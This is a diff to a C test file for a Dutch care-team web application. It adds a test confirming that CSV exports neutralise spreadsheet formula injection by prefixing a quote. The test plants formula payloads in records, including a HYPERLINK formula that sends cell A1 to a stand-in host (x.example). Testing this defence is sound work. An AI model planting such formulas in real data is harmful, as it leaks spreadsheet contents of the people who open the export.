@@ -580,6 +580,30 @@ static void cache(struct agent *tl, const char *q)
 	json_decref(d4);
 }
 
+/* A planted address or provider name starting a formula stays text in
+ * every export (OWASP: a leading single quote). */
+static void csv_injection(struct agent *tl)
+{
+	CHECK(db_exec("UPDATE huishouden SET street = '=HYPERLINK(\"http://x.example/\"&A1;\"Klik\")' WHERE id = %lld",
+	              H[7]) == 0 &&
+	      db_exec("UPDATE aanbieder SET name = '@SUM(1+1)' WHERE name = 'Zorg Test BV'") == 0 &&
+	      db_exec("UPDATE medewerker SET name = '-2+3 Test' WHERE id = %lld", A) == 0,
+	      "csv injection: formulas planted in an address, a provider and an employee name");
+	struct http_resp r;
+	CHECK(get(tl, "/team/export/zonder-regisseur.csv?team=alle", &r) == 200 &&
+	      http_body_has(&r, ";\"'=HYPERLINK(\"\"http://x.example/\"\"&A1;\"\"Klik\"\") 1, 3861 AB Nijkerk\";") &&
+	      !http_body_has(&r, ";=HYPERLINK") && !http_body_has(&r, ";\"=HYPERLINK"),
+	      "csv injection: the address starts with a quote in zonder-regisseur.csv");
+	http_resp_free(&r);
+	CHECK(get(tl, "/team/export/aanbieders.csv?team=alle&van=2025-01&tot=2025-03", &r) == 200 &&
+	      http_body_has(&r, "\r\n'@SUM(1+1);") && !http_body_has(&r, "\r\n@SUM"),
+	      "csv injection: the provider starts with a quote in aanbieders.csv");
+	http_resp_free(&r);
+	CHECK(get(tl, "/team/export/caseload.csv?team=alle", &r) == 200 && http_body_has(&r, "\r\n'-2+3 Test;") &&
+	      !http_body_has(&r, "\r\n-2+3"), "csv injection: the employee starts with a quote in caseload.csv");
+	http_resp_free(&r);
+}
+
 int main(void)
 {
 	if (ts_start(&S, (const char *const[]){"--cookie-insecure", NULL}) != 0) {
@@ -602,6 +626,7 @@ int main(void)
 	cache(&tl, q);
 	access_and_api_errors();
 	mijn_werk();
+	csv_injection(&tl);
 	CHECK(ts_stop(&S) == 0, "server stops cleanly");
 	T_EXIT();
 }
